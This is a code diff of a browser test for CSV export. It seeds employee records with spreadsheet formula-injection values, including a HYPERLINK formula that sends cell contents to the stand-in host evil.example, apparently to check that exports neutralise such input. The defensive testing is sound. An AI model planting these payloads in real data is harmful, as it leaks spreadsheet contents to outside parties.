@@ -19,7 +19,16 @@ describe.skipIf(skip)('a list exported as CSV in the browser', () => {
     server = await startServer();
     const company = await companyWithExecutive(server, 'Csvco', 'csvco-pass-1');
     const token = (await api(server, 'auth/login', { email: company.email, password: company.password })).user.token;
-    await api(server, 'employee/add', { firstName: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', lastName: 'Link', email: 'link@csvco.example' }, token);
+    await api(
+      server,
+      'employee/add',
+      {
+        firstName: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+        lastName: 'Link',
+        email: 'link@csvco.example',
+      },
+      token,
+    );
     await api(server, 'employee/add', { firstName: '@SUM(1+1)', lastName: 'Sum', email: 'sum@csvco.example' }, token);
     await api(server, 'employee/add', { firstName: 'Größe', lastName: 'রহমান', email: 'plain@csvco.example' }, token);
     browser = await launchChromium();
